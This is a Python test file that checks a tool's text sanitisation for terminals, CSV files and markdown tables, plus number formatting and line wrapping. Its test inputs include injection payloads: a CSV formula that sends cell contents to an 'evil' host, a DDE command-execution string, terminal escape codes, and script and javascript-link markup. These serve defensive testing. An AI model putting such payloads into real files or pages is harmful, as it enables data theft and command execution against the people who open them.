"""Text from a stranger is harmless where it is written: a terminal, a spreadsheet, a page."""

import csv
import io
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from kdzoo.cli.output import wrapped
from kdzoo.tasks.classification import TOP1
from kdzoo.text import LONGEST, csv_text, format_number, markdown_text, one_line


@pytest.mark.parametrize(
    ("value", "form", "text"),
    [
        (-0.004, "+.2f", "0.00"),
        (0.004, "+.2f", "0.00"),
        (-0.0, ".4g", "0"),
        (-0.006, "+.2f", "-0.01"),
        (0.006, "+.2f", "+0.01"),
        (-1e-9, ".4g", "-1e-09"),
        (float("-inf"), "+.2f", "-inf"),
        (-0.0004, ".0%", "0%"),
    ],
)
def test_a_number_that_rounds_to_zero_has_no_sign(value: float, form: str, text: str) -> None:
    assert format_number(value, form) == text


def test_an_end_of_an_interval_shows_on_which_side_of_zero_it_lies() -> None:
    ends = (-0.00004, 0.0000312, 0.0, -0.0000001, -0.00006)
    assert [TOP1.bound_text(end) for end in ends] == ["-0.004", "+0.003", "0.00", "0.00", "-0.01"]
    assert TOP1.difference_text(-0.00004) == "0.00"


@given(st.text())
def test_one_line_has_no_line_break_control_character_or_mark_of_direction(text: str) -> None:
    assert one_line(text).isprintable()
    assert len(one_line(text).splitlines()) <= 1


@pytest.mark.parametrize("text", ["\x1b]0;title\x07\x1b[2Jx", "a\u202eb", "line\r\nline\x00", "\ud800"])
def test_what_steers_a_terminal_is_taken_out(text: str) -> None:
    assert not set(one_line(text)) & set("\x1b\x07\x00\r\n\u202e\ud800")


def test_a_very_long_text_is_cut_with_a_mark() -> None:
    assert len(one_line("x" * 1_000_000)) == LONGEST
    assert one_line("x" * 1_000_000).endswith("…")


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil/?"&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1)", "-2+3", "\n=1+1", "\t=1"])
def test_no_cell_of_a_csv_file_is_a_formula(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([csv_text(text)])
    (row,) = csv.reader(io.StringIO(written.getvalue()))
    assert row[0][0] not in "=+-@\t\r\n"


@pytest.mark.parametrize("text", ["hinton", "at+hinton", "T=4 alpha=0.5", "0.1*ce+0.9*hinton"])
def test_the_words_of_tables_stay_as_they_are(text: str) -> None:
    assert csv_text(text) == text
    assert markdown_text(text) == text


@pytest.mark.parametrize(
    "text", ["<script>alert(1)</script>", "a | b", "[x](javascript:alert(1))", "![](http://evil/p.png)", "a\n\n# head"]
)
def test_a_cell_of_a_page_holds_no_html_link_image_heading_or_further_cell(text: str) -> None:
    cell = markdown_text(text)
    assert "<" not in cell
    assert "\n" not in cell
    assert not re.search(r"(?<!\\)(\||\]\(|!\[)", cell)


@pytest.mark.parametrize("text", ["<0.001", "-2.51 [-4.34, -0.68]", "95.6 ± 0.3", "digits_teacher/digits_student on digits"])
def test_the_numbers_of_tables_stay_as_they_are(text: str) -> None:
    assert markdown_text(text) == text


@pytest.mark.parametrize(
    ("text", "lines"),
    [
        ("recipe        digits, 20 epochs", ["recipe        digits, 20", "              epochs"]),
        ("              in the train part too", ["              in the", "              train part", "              too"]),
        ("next: the same command with --seeds 5", ["next: the same command", "with --seeds 5"]),
        ("in /a/folder/that/is/longer/than/a/line of it", ["in", "/a/folder/that/is/longer/than/a/line", "of it"]),
        ("first\n\nlast", ["first", "", "last"]),
    ],
)
def test_a_terminals_lines_break_between_words_below_where_their_text_begins(text, lines):
    assert wrapped(text, 25).split("\n") == lines
